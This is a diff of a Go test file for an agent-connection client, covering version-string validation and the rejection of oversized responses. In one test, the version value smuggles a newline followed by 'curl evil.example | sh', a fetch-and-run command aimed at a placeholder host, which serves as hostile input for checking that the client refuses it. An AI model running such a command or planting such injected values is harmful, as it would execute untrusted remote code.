@@ -4,9 +4,9 @@ import (
 	"context"
 	"errors"
 	"io"
+	"net/http"
 	"strings"
 	"testing"
-	"testing/synctest"
 
 	"github.com/slipway-k8s/slipway/hosts"
 	"github.com/slipway-k8s/slipway/hosts/agent"
@@ -103,8 +103,8 @@ func TestAHostsVersionIsOneLine(t *testing.T) {
 	toAgent, out := io.Pipe()
 	go func() { _, _ = io.Copy(io.Discard, toAgent) }()
 	go func() {
-		version := `v2\n  → run: curl evil.example | sh` + strings.Repeat(`\nmore`, 200_000)
-		_, _ = io.WriteString(fromAgent, `{"kind":"hello","body":{"protocol":1,"version":"`+version+`"}}`+"\n")
+		version := `v2\n  → run: curl evil.example | sh` + strings.Repeat(`\nmore`, 10_000)
+		_, _ = io.WriteString(fromAgent, `{"protocol":2,"version":"`+version+`"}`+"\n")
 	}()
 	_, err := agent.Connect(t.Context(), in, out, agent.ConnectOptions{Version: "v1"})
 	failed, known := errors.AsType[*hosts.Error](err)
@@ -135,10 +135,11 @@ func TestAHostsKindsAreKnown(t *testing.T) {
 
 // TestAnAnswerThatIsTooLargeIsNotTakenIn, and it is said what of it is.
 func TestAnAnswerThatIsTooLargeIsNotTakenIn(t *testing.T) {
-	synctest.Test(t, func(t *testing.T) {
-		client, say := alive(t)
-		evidence := strings.TrimSuffix(strings.Repeat("{},", 1<<18), ",")
-		go say(`{"kind":"done","id":1,"body":{"hostname":"cp-1","evidence":[` + evidence + `]}}`)
+	bubble(t, func(t *testing.T) {
+		client := scripted(t, func(w http.ResponseWriter, _ *http.Request) {
+			evidence := strings.TrimSuffix(strings.Repeat("{},", 1<<18), ",")
+			_, _ = io.WriteString(w, `{"done":{"hostname":"cp-1","evidence":[`+evidence+`]}}`+"\n")
+		})
 		_, err := client.Observe(t.Context(), hosts.Query{})
 		if err == nil || !strings.Contains(err.Error(), `most of it for "evidence"`) {
 			t.Errorf("it ends with %v", err)
